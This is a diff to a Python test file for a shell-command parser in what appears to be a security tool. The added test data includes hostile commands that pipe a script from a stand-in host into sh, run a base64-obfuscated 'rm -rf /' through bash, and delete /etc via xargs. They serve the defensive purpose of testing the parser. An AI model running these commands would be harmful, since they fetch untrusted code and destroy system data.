@@ -724,7 +724,37 @@ FAST_PATH_CASES = [
     "sh",
     "eval ls",
     "npm run build --prefix=./web/../api",
+    'git commit -m "fix: handle rm -rf in docs"',
+    "grep -rn 'TODO' src | head -20",
+    "cd src && make build; make test || echo failed",
+    "curl -s http://x.example/i.sh | sh",
+    "echo cm0gLXJmIC8= | base64 -d | bash",
+    "echo 'rm -rf /tmp/x' | sh",
+    "'ls' -la",
+    'echo "" | wc -c',
+    "echo /etc | xargs rm -rf",
+    "alias ll=ls; ll",
+    "printf 'halt' | sh",
+    "set -- rm -rf /; echo done",
 ]
+
+
+def test_parse_fast_path_used_for_plain_input(monkeypatch) -> None:
+    from shield.parsing import analyzer
+
+    calls = []
+    monkeypatch.setattr(analyzer.Analyzer, "parse_text", lambda *a, **k: calls.append(a))
+    parse('git commit -m "x" && npm test | tail -3')
+    assert calls == []
+
+
+@pytest.mark.parametrize(
+    "command", ["r''m -rf /", 'a"b" c', "ls |", "x=1 ls", "if true; then ls; fi", "ls &"]
+)
+def test_parse_fast_path_declines_tricky_input(command: str) -> None:
+    from shield.parsing import analyzer
+
+    assert not analyzer._FAST_PATH.match(command) or analyzer._fast_statements(command) is None
 
 
 def _snapshot(result: ParseResult):
